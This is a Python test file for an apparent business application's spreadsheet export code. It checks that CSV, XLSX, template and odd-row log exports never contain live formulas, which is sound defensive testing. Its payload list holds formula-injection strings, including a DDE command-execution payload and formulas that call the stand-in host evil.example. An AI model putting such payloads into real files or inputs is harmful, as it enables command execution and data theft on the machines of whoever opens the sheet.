"""Whatever somebody typed, no cell of an exported file is a formula: workbooks, CSV, lists of odd rows."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from jingming.accounts.models import Staff
from jingming.base.clock import now
from jingming.customers import actions as customers
from jingming.loading.event_log import OddRows
from jingming.loading.progress import Silent
from jingming.loading.sheets.exporting import export, write_template
from jingming.loading.sheets.kinds import KINDS
from jingming.loading.sheets.writing import write_csv, write_xlsx
from tests.cast import FOUNDED

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "''=1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")', "@evil.example", "-2+3+cmd|' /C calc'!A0", '=DDE("x";"y";"z")',
]  # fmt: skip
BEGINS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def cells(path: Path) -> list[str]:
    """Every text of a file; raises for a cell that a spreadsheet would work out."""
    if path.suffix == ".xlsx":
        rows = [cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in rows} <= {"s", "n", "d", "b"}
        return [str(cell.value) for cell in rows if cell.data_type == "s"]
    with path.open(encoding="utf-8-sig", newline="") as file:
        found = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in found if cell.startswith(BEGINS)] == []
    return found


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_cell_that_was_written_is_a_formula(tmp_path: Path, form: str):
    place = tmp_path / f"sheet.{form}"
    write = {"csv": write_csv, "xlsx": write_xlsx}[form]

    write(place, FORMULAS, [FORMULAS, list(reversed(FORMULAS))])

    assert len(cells(place)) == 3 * len(FORMULAS)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_cell_of_an_export_is_a_formula(tmp_path: Path, agent: Staff, sysadmin: Staff, form: str):
    for text in FORMULAS:
        customers.add_customer(text, by=agent, at=FOUNDED, unit="340705", note=text)
    found = []
    for kind in KINDS.values():
        place = tmp_path / f"{kind.code}.{form}"
        export(place, kind, by=None, form=form, progress=Silent())
        found += cells(place)

    assert sum("SUM(A1)" in cell for cell in found) >= 2


@pytest.mark.parametrize("kind", KINDS)
def test_no_cell_of_a_template_is_a_formula(tmp_path: Path, kind: str):
    place = tmp_path / "template.xlsx"
    write_template(place, KINDS[kind])

    assert cells(place)


def test_no_cell_of_a_list_of_odd_rows_is_a_formula(tmp_path: Path, settings):
    settings.HOME = tmp_path
    odd = OddRows()
    odd.rows = [(place, text, text, now().isoformat(), "odd") for place, text in enumerate(FORMULAS, 2)]

    written = odd._write("log", FOUNDED)

    assert len(cells(written)) == 5 * (len(FORMULAS) + 1)
